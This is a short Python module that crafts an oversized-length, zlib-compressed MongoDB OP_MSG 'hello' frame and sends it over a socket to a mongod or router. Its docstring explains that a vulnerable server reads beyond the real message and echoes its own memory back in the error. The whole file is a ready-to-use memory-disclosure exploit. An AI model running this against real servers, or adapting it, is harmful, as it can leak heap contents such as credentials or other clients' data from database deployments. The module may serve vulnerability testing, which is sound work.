"""Malformed frames of MongoDB's protocol, for a mongod and for the router."""

import socket
import struct
import zlib

OP_MSG, OP_COMPRESSED, ZLIB = 2013, 2012, 2


def overlong_frame(claimed):
    """A zlib-compressed `hello` whose document, and so the whole message, is said to be `claimed`
    bytes longer than it is. A server that believes it reads field names out of its own memory and
    names them in its error."""
    document = struct.pack("<i", claimed) + b"\x10hello\0" + struct.pack("<i", 1) + b"\x03a\0"
    document += struct.pack("<i", claimed - len(document))
    message = struct.pack("<IB", 0, 0) + document
    content = struct.pack("<iiB", OP_MSG, 5 + claimed, ZLIB) + zlib.compress(message)
    return struct.pack("<iiii", 16 + len(content), 1, 0, OP_COMPRESSED) + content


def answer(host, frame):
    """All that a server sends before it closes the connection."""
    address, _, port = host.partition(":")
    with socket.create_connection((address, int(port)), timeout=10) as client:
        client.sendall(frame)
        client.shutdown(socket.SHUT_WR)
        received = b""
        try:
            while more := client.recv(65536):
                received += more
        except ConnectionResetError:
            pass
        return received
